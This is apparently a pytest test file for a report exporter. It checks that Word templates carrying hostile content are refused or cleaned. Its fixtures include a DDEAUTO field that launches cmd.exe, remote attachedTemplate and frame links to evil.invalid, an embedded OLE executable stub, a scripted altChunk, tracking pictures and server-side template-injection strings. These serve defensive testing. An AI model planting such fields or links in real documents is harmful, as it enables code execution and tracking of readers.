"""Word templates made to break, to fetch or to run something: rows T1–T5, and I4–I10 as templates.

Each is refused with its code and a sentence in every language, or cleaned, with what was left out said
aloud; a document made with it is whole, holds nothing of that, and is the same twice.
"""

from __future__ import annotations

import io
import re
import struct
import time
import zipfile
import zlib
from dataclasses import replace
from functools import cache

import pytest
from exporter_samples import workshop
from PIL import Image
from test_files import FILES
from word_package import NS, Package, W, package_faults
from word_templates import (
    R,
    as_template,
    customer,
    field,
    in_body,
    logo,
    related,
    rewritten,
    split,
    with_xml,
)

from synthesis import i18n
from synthesis.errors import SynthesisError
from synthesis.exporter.formats import docx as word
from synthesis.exporter.outline import build_report
from synthesis.exporter.report import House, Report
from synthesis.exporter.template.cleaning import cleaned
from synthesis.exporter.template.placeholders import names
from synthesis.services.files import read_template

COVER = customer("Title::{{ title }}", "{{ body }}")


@cache
def report() -> Report:
    return build_report(workshop())


def dressed(data: bytes) -> tuple[dict[str, dict], bytes]:
    """What was told of the template, and the document made with it; whole, and the same twice."""
    reading, clean = cleaned(data, "casa.docx", names())
    assert cleaned(data, "casa.docx", names())[1] == clean
    written = []
    for _ in range(2):
        stream = io.BytesIO()
        word.write(replace(report(), house=House(template=clean)), stream)
        written.append(stream.getvalue())
    assert written[0] == written[1]
    assert package_faults(written[0]) == []
    assert all(
        len(i18n.words(language)(one.code, **one.params)) > 10
        for language in i18n.LANGUAGES
        for one in reading.told
    )
    return {one.code: dict(one.params) for one in reading.told}, written[0]


def refused(data: bytes, name: str = "casa.docx") -> SynthesisError:
    """The refusal of a template, told in every language and in time."""
    started = time.perf_counter()
    with pytest.raises(SynthesisError) as found:
        read_template(data, name)
    assert time.perf_counter() - started < 5
    told = {i18n.sentence(found.value, language) for language in i18n.LANGUAGES}
    assert len(told) == len(i18n.LANGUAGES)
    assert all(len(text) > 20 for text in told)
    return found.value


def all_of(data: bytes) -> bytes:
    """Everything in the parts of a document, in one."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"\n".join(name.encode() + archive.read(name) for name in archive.namelist())


def words_of(data: bytes, part: str = "word/document.xml") -> list[str]:
    """The paragraphs of a part; those of text boxes too."""
    found = Package(data).xml(part).iter(f"{{{W}}}p")
    return ["".join(t.text or "" for t in p.iter(f"{{{W}}}t")) for p in found]


def png_header(width: int, height: int) -> bytes:
    """A picture that says it is that large, and is not."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + chunk(b"IEND", b"")
    )


def with_picture(data: bytes) -> bytes:
    """The template with other bytes for the logo of its header."""
    return rewritten(COVER, lambda name, old: data if name.startswith("word/media/") else old)


# -- the gate: I4 to I9 -----------------------------------------------------------------------------

GATE = [case for case in FILES if case.name.lower().endswith((".docx", ".docm"))]


@pytest.mark.parametrize("case", GATE, ids=[case.row for case in GATE])
def test_the_gate_is_the_same_for_templates(case):
    error = refused(case.bytes(), case.name)
    assert error.code == case.code
    # what is no word processor's file at all says so, whatever it is called
    if case.name.endswith(".docx"):
        assert refused(case.bytes(), case.name.replace(".docx", ".dotx")).code == case.code


@pytest.mark.parametrize("name", ["casa.xlsx", "casa.txt", "casa", "casa.odt", "casa.docx.exe"])
def test_t5_another_kind_of_file_is_not_a_template(name):
    assert refused(COVER, name).code == "file_not_what_it_says"


def test_a_strict_file_is_told_how_to_be_saved():
    strict = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    data = rewritten(
        COVER, lambda name, old: old.replace(W.encode(), strict.encode()) if name.startswith("word/") else old
    )
    assert refused(data).code == "template_strict"


# -- I10: what leads outside, or holds something of another program ----------------------------------


def dde() -> bytes:
    return in_body(COVER, field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))


def attached() -> bytes:
    mark = f'<w:attachedTemplate xmlns:r="{R}" r:id="rId991"/>'
    data = with_xml(COVER, "word/settings.xml", mark="<w:defaultTabStop", before=mark)
    return related(data, "attachedTemplate", "http://evil.invalid/x.dotm", outside=True, part="settings")


def ole() -> bytes:
    xml = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed"'
        f' ProgID="Package" r:id="rId991" xmlns:r="{R}"/></w:object></w:r></w:p>'
    )
    data = related(in_body(COVER, xml), "oleObject", "embeddings/oleObject1.bin", outside=False)
    data = rewritten(data, extra={"word/embeddings/oleObject1.bin": b"MZ evil.exe"})
    return with_xml(
        data, "[Content_Types].xml", mark="<Override", before='<Default Extension="bin" ContentType="x/y"/>'
    )


def altchunk() -> bytes:
    xml = f'<w:altChunk xmlns:r="{R}" r:id="rId991"/>'
    data = related(in_body(COVER, xml), "aFChunk", "evil.html", outside=False)
    return rewritten(data, extra={"word/evil.html": b"<script>evil()</script>"})


def tracked_picture() -> bytes:
    """A picture that is fetched when the document is opened, which tells its owner who did."""
    xml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" style="width:9pt">'
        f'<v:imagedata r:id="rId991" xmlns:r="{R}" src="http://evil.invalid/y.png"/></v:shape></w:pict></w:r></w:p>'
    )
    return related(in_body(COVER, xml), "image", "http://evil.invalid/track.png", outside=True)


def linked_blip() -> bytes:
    data = related(COVER, "image", "file://evil.invalid/share/x.png", outside=True, part="header1")
    return with_xml(data, "word/header1.xml", mark="r:embed=", before='r:link="rId991" ')


def script_link() -> bytes:
    xml = (
        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rId991"><w:r><w:t>pulsa aquí</w:t></w:r></w:hyperlink></w:p>'
    )
    return related(in_body(COVER, xml), "hyperlink", "file:///c:/evil.exe", outside=True)


def framed() -> bytes:
    return related(COVER, "frame", "http://evil.invalid/frame.htm", outside=True, part="webSettings")


def protected() -> bytes:
    lock = '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    return with_xml(COVER, "word/settings.xml", mark="<w:defaultTabStop", before=lock)


def merged() -> bytes:
    source = f'<w:query w:val="SELECT evil"/><w:dataSource xmlns:r="{R}" r:id="rId991"/>'
    mail = f"<w:mailMerge>{source}</w:mailMerge>"
    data = with_xml(COVER, "word/settings.xml", mark="<w:defaultTabStop", before=mail)
    return related(data, "mailMergeSource", "file:///c:/evil.mdb", outside=True, part="settings")


def commented() -> bytes:
    mark = (
        '<w:commentRangeStart w:id="5"/><w:r><w:t>viejo</w:t></w:r><w:commentRangeEnd w:id="5"/>'
        '<w:r><w:commentReference w:id="5"/></w:r>'
    )
    data = related(in_body(COVER, f"<w:p>{mark}</w:p>"), "comments", "comments.xml", outside=False)
    note = f'<w:comments xmlns:w="{W}"><w:comment w:id="5" w:author="evil"><w:p/></w:comment></w:comments>'
    return rewritten(data, extra={"word/comments.xml": note})


def changed() -> bytes:
    xml = (
        '<w:p><w:ins w:id="1" w:author="evil"><w:r><w:t>puesto</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="evil"><w:r><w:delText>evil quitado</w:delText></w:r></w:del></w:p>'
    )
    return in_body(COVER, xml)


def footnoted() -> bytes:
    return in_body(COVER, '<w:p><w:r><w:t>nota</w:t><w:footnoteReference w:id="7"/></w:r></w:p>')


def macro_button() -> bytes:
    return in_body(COVER, field("MACROBUTTON EvilMacro pulsa", "pulsa"))


OUTSIDE = {
    "attachedTemplate": (attached, "template_left_attached"),
    "OLE": (ole, "template_left_objects"),
    "altChunk": (altchunk, "template_left_inserted"),
    "picture from outside": (tracked_picture, "template_left_outside"),
    "picture linked and kept": (linked_blip, "template_left_outside"),
    "link to a program": (script_link, "template_left_links"),
    "frame": (framed, "template_left_outside"),
    "protection": (protected, "template_left_protection"),
    "mail merge": (merged, "template_left_merge"),
    "comments": (commented, "template_left_comments"),
    "tracked changes": (changed, "template_left_changes"),
    "footnotes": (footnoted, "template_left_notes"),
    "macro button": (macro_button, "template_left_fields"),
}


@pytest.mark.parametrize("what", OUTSIDE)
def test_i10_what_leads_outside_is_dropped_and_said(what, tmp_path, openxml_validator):
    make, code = OUTSIDE[what]
    told, document = dressed(make())
    path = tmp_path / "document.docx"
    path.write_bytes(document)
    assert [error.description for error in openxml_validator.validate(path).errors] == []
    assert code in told
    found = all_of(document).lower()
    assert b"evil" not in found
    for mark in (
        b"documentprotection",
        b"mailmerge",
        b"altchunk",
        b"commentreference",
        b"attachedtemplate",
        b"oleobject",
    ):
        assert mark not in found
    if what == "link to a program":
        assert "pulsa aquí" in words_of(document)
    if what == "picture linked and kept":
        assert b"r:embed" in Package(document).blobs["word/header1.xml"]


def test_the_report_is_the_same_when_a_process_of_its_own_reads_it():
    reading, clean = read_template(as_template(attached()), "casa.dotx")
    assert [one.code for one in reading.told] == ["template_left_attached", "template_pictures_untold"]
    assert clean == cleaned(attached(), "casa.docx", names())[1]


def test_nothing_of_the_file_is_taken_over_that_was_not_looked_at():
    extra = {
        "customXml/item9.xml": "<evil/>",
        "word/evil.bin": b"evil",
        "word/glossary/document.xml": "<evil/>",
        "docProps/app.xml": "<evil/>",
        "word/fonts/evil.odttf": b"evil",
    }
    _, clean = cleaned(
        rewritten(COVER, lambda n, d: None if n == "docProps/app.xml" else d, extra), "c.docx", names()
    )
    assert b"evil" not in all_of(clean)


# -- T1: pages and styles ----------------------------------------------------------------------------


def without_styles(*gone: str) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        if name != "word/styles.xml":
            return data
        text = data.decode()
        for style in gone:
            text = re.sub(
                rf'<w:style [^>]*>\s*<w:name w:val="{style}"/>.*?</w:style>', "", text, flags=re.DOTALL
            )
        return text.encode()

    return rewritten(COVER, change)


def test_t1_a_missing_style_comes_from_us_and_is_told():
    reading, _ = cleaned(without_styles("heading 2", "Quote"), "casa.docx", names())
    roles = dict(reading.roles)
    assert (roles["heading_1"], roles["heading_2"], roles["quote"]) == ("heading 1", "", "")
    _, document = dressed(without_styles("heading 2", "Quote"))
    styles = Package(document).values("word/styles.xml", "//w:style/w:name/@w:val")
    assert styles.count("heading 2") == styles.count("Quote") == styles.count("heading 1") == 1


def test_t1_a_file_without_styles_lists_or_settings_is_filled_up():
    kept = ("[Content_Types].xml", "_rels/.rels", "word/document.xml")

    def change(name: str, data: bytes) -> bytes | None:
        if name == "word/document.xml":
            return re.sub(rb"<w:sectPr.*</w:sectPr>", b"", data, flags=re.DOTALL)
        return data if name in kept else None

    told, document = dressed(rewritten(COVER, change))
    assert "template_pages_own" in told
    assert "template_lines_own" in told
    assert "Agenda Digital 2028" in words_of(document)


SECTION = (
    '<w:sectPr><w:pgSz w:w="12240" w:h="15840"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440"'
    ' w:left="1440" w:header="720" w:footer="720" w:gutter="0"/></w:sectPr>'
)


def test_t1_three_sections_keep_the_headers_of_the_first():
    data = customer("Title::{{ title }}", "{{ body }}", "Fin")
    end = f"<w:p><w:pPr>{SECTION}</w:pPr></w:p>"
    text = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    own = re.search(r"<w:sectPr.*?</w:sectPr>", text, re.DOTALL)[0]
    first = f"<w:p><w:pPr>{own}</w:pPr></w:p>"
    made = (
        text.replace(own, SECTION)
        .replace("<w:body>", "<w:body>" + first)
        .replace("<w:t>Fin</w:t></w:r></w:p>", "<w:t>Fin</w:t></w:r></w:p>" + end)
    )
    data = rewritten(data, lambda name, old: made.encode() if name == "word/document.xml" else old)
    _, document = dressed(data)
    sections = Package(document).xml("word/document.xml").iter(f"{{{W}}}sectPr")
    lines = [[e.get(f"{{{R}}}id") for e in s.iter(f"{{{W}}}headerReference")] for s in sections]
    assert len(lines) >= 3
    assert lines[0]
    assert lines[-1] == lines[0]


@pytest.mark.parametrize(
    "size", ['w:w="3000" w:h="3000"', 'w:w="x" w:h="1e999"', 'w:w="999999" w:h="999999"', 'w:w="-5" w:h="0"']
)
def test_t1_a_page_that_cannot_hold_the_text_is_not_taken(size):
    told, document = dressed(
        rewritten(
            COVER,
            lambda n, d: (
                re.sub(rb"<w:pgSz [^>]*>", f"<w:pgSz {size}/>".encode(), d) if n == "word/document.xml" else d
            ),
        )
    )
    assert "template_pages_own" in told
    assert "11906" in Package(document).body("//w:pgSz/@w:w")


# -- T2 and T3: placeholders -------------------------------------------------------------------------


def test_t2_an_unknown_placeholder_is_refused_with_the_nearest():
    error = refused(customer("{{ themse }}", "{{ body }}"))
    assert error.code == "template_placeholder"
    assert (error.params["name"], error.params["near"], error.params["others"]) == (
        "themse",
        "themes",
        "none",
    )
    assert "themse" in i18n.sentence(error, "en")
    assert "Perhaps “themes”" in i18n.sentence(error, "en")
    error = refused(customer("{{ zzzz }} y {{ qqqq }}"))
    assert (error.params["near"], error.params["others"]) == ("none", "qqqq")


@pytest.mark.parametrize(
    "text",
    [
        "{{ 7*7 }}",
        "{{ x.__class__ }}",
        "{% include 'x' %}",
        "{{ title|upper }}",
        "${title}",
        "{{ ''.__class__.__mro__ }}",
    ],
)
def test_t3_nothing_is_evaluated(text):
    told, document = dressed(customer(f"Antes {text} después", "{{ body }}"))
    assert f"Antes {text} después" in words_of(document)
    assert "49" not in words_of(document)[0]
    assert ("template_literal" in told) == text.startswith("{{")


FIELDS = {
    'INCLUDETEXT "c:\\\\secret.docx"': "INCLUDETEXT",
    'INCLUDEPICTURE "http://x.invalid/y.png"': "INCLUDEPICTURE",
    'DDE excel "c:\\\\x"': "DDE",
    "ddeauto x y": "DDEAUTO",
    'LINK Excel.Sheet "c:\\\\x"': "LINK",
    'DATABASE \\\\d "x"': "DATABASE",
    'QUOTE "x"': "QUOTE",
    'HYPERLINK "file:///x"': "HYPERLINK",
    "": "?",
}


@pytest.mark.parametrize("code", FIELDS)
def test_t3_fields_that_fetch_or_run_become_the_text_they_show(code):
    told, document = dressed(in_body(COVER, field(code, "lo que se veía")))
    assert told["template_left_fields"] == {"names": FIELDS[code]}
    assert "lo que se veía" in words_of(document)
    codes = Package(document).body("//w:instrText/text()")
    assert not [c for c in codes if code and code in c]


def nested(outer: str, inner: str) -> str:
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    code = '<w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r>'
    inside = begin + code.format(inner) + separate + "<w:r><w:t>5</w:t></w:r>" + end
    whole = code.format(outer) + inside + code.format("- 1")
    return f"<w:p>{begin}{whole}{separate}<w:r><w:t>4</w:t></w:r>{end}</w:p>"


def test_t3_a_page_number_in_a_sum_stays_and_a_file_in_a_sum_goes():
    told, document = dressed(in_body(COVER, nested("=", "PAGE")))
    assert "template_left_fields" not in told
    assert " PAGE " in Package(document).body("//w:instrText/text()")
    told, document = dressed(in_body(COVER, nested("=", "INCLUDETEXT evil")))
    assert told["template_left_fields"]["names"] == "INCLUDETEXT"
    assert words_of(document)[0] == "4"
    assert b"INCLUDETEXT" not in all_of(document)


BEGIN, END = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
SHAPES = {
    "simple": '<w:fldSimple w:instr=" DDEAUTO evil "><w:r><w:t>visto</w:t></w:r></w:fldSimple>',
    "never closed": f"<w:r>{BEGIN}<w:instrText>DDE evil</w:instrText></w:r><w:r><w:t>visto</w:t></w:r>",
    "never opened": f"<w:r><w:instrText>DDE evil</w:instrText><w:t>visto</w:t>{END}</w:r>",
    "cut in two": (
        f"<w:r>{BEGIN}<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E evil</w:instrText>"
        f'<w:fldChar w:fldCharType="separate"/><w:t>visto</w:t>{END}</w:r>'
    ),
}


@pytest.mark.parametrize("xml", SHAPES.values(), ids=SHAPES)
def test_t3_fields_in_any_shape_are_found(xml):
    told, document = dressed(in_body(COVER, f"<w:p>{xml}</w:p>"))
    assert "template_left_fields" in told
    assert b"evil" not in all_of(document)
    assert words_of(document)[0] == "visto"
    assert "Agenda Digital 2028" in words_of(document)


# -- T4: wherever a placeholder stands ---------------------------------------------------------------

BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="caja"'
    ' style="width:90pt;height:20pt">'
    "<v:textbox><w:txbxContent>{}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)


def test_t4_placeholders_are_filled_wherever_they_stand():
    cell = f"<w:tr><w:tc>{split('{{ lugar }}')}</w:tc></w:tr>"
    table = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>{cell}</w:tbl>"
    data = in_body(
        COVER, split("De {{ CLIENTE }} para {{title}}.") + table + BOX.format(split("Caja: {{ estado }}"))
    )
    told, document = dressed(data)
    found = words_of(document)
    assert found[0] == "De Mesa intermunicipal para Agenda Digital 2028."
    assert "Centro Cívico" in found
    assert "Caja: Borrador" in found
    assert words_of(document, "word/header1.xml")[0].endswith("Bajo Aragón · Borrador")
    assert not [text for text in found if "{{" in text]
    assert "template_unreachable" not in told


def test_t4_one_inside_a_drawing_is_told():
    spaces = f'xmlns:wp="{NS["wp"]}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    drawn = (
        f'<w:p><w:r><w:drawing><wp:inline {spaces}><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x"/>'
        '<a:graphic><a:graphicData uri="x"><a:t>{{ title }}</a:t></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    reading, _ = cleaned(in_body(COVER, drawn), "casa.docx", names())
    assert "template_unreachable" in [one.code for one in reading.told]


@pytest.mark.parametrize(
    "data",
    [
        lambda: in_body(COVER, split("{{ cuerpo }}")),
        lambda: customer("Aquí: {{ body }}"),
        lambda: customer("x", header="{{ body }}"),
        lambda: in_body(customer("x"), BOX.format(split("{{ body }}"))),
    ],
    ids=["twice", "among words", "in a header", "in a box"],
)
def test_t4_the_body_has_one_place_of_its_own(data):
    assert refused(data()).code == "template_body_place"


def test_what_people_wrote_is_never_a_placeholder_nor_markup():
    hostile = workshop()
    session = replace(hostile.session, title="{{ client }} <w:p/> & \x0b\ud83d", client="{{ body }}")
    _, clean = cleaned(customer("Title::{{ title }}", "{{ client }}", "{{ body }}"), "c.docx", names())
    stream = io.BytesIO()
    word.write(replace(build_report(replace(hostile, session=session)), house=House(template=clean)), stream)
    assert package_faults(stream.getvalue()) == []
    assert words_of(stream.getvalue())[:2] == ["{{ client }} <w:p/> & \ufffd", "{{ body }}"]


# -- T5: pictures ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [b"", b"no es una imagen", logo()[:60], png_header(20_000, 20_000), logo().replace(b"IDAT", b"IDAX", 1)],
    ids=["empty", "words", "half", "20,000 pixels a side", "broken"],
)
def test_t5_a_picture_that_is_damaged_or_too_large_is_refused(data):
    error = refused(with_picture(data))
    assert (error.code, error.params["limit"]) == ("template_damaged", 40)
    assert error.params["part"].startswith("word/media/")


def test_t5_pictures_are_made_anew_without_what_a_camera_noted():
    stream = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "evil in Conchalí"
    Image.new("RGB", (60, 40), "red").save(stream, "JPEG", exif=exif)
    data = rewritten(with_picture(stream.getvalue() + b"evil tail"))
    data = rewritten(
        data,
        lambda n, d: (
            d.replace(b'Extension="png" ContentType="image/png"', b'Extension="png" ContentType="image/jpeg"')
            if n.startswith("[")
            else d
        ),
    )
    _, document = dressed(data)
    assert b"evil" not in all_of(document)
    (media,) = [n for n in Package(document).names if n.startswith("word/media/") and n.endswith("jpeg")]
    assert Image.open(io.BytesIO(Package(document).blobs[media])).size == (60, 40)
